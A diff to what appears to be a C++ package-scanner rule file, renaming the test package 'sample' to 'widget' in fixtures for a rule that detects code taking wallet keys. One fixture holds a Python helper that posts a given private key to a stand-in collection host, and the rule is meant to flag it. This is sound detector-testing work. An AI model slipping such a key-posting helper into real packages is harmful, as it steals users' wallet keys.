@@ -44,27 +44,27 @@ extern constinit const Rule takes_wallet_keys = {
 #ifdef RULE_SAMPLES
 constexpr Sample samples[] = {
     {.name = "a helper posts the key that it is given",
-     .expect = "sample/__init__.py:3",
+     .expect = "widget/__init__.py:3",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import requests
 def account(private_key):
     requests.post("https://collect.example.test/keys", json={"key": private_key})
 )"},
     {.name = "a helper posts an address and an amount", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import requests
 def pay(address, amount):
     requests.post("https://api.example.test/pay", json={"to": address, "amount": amount})
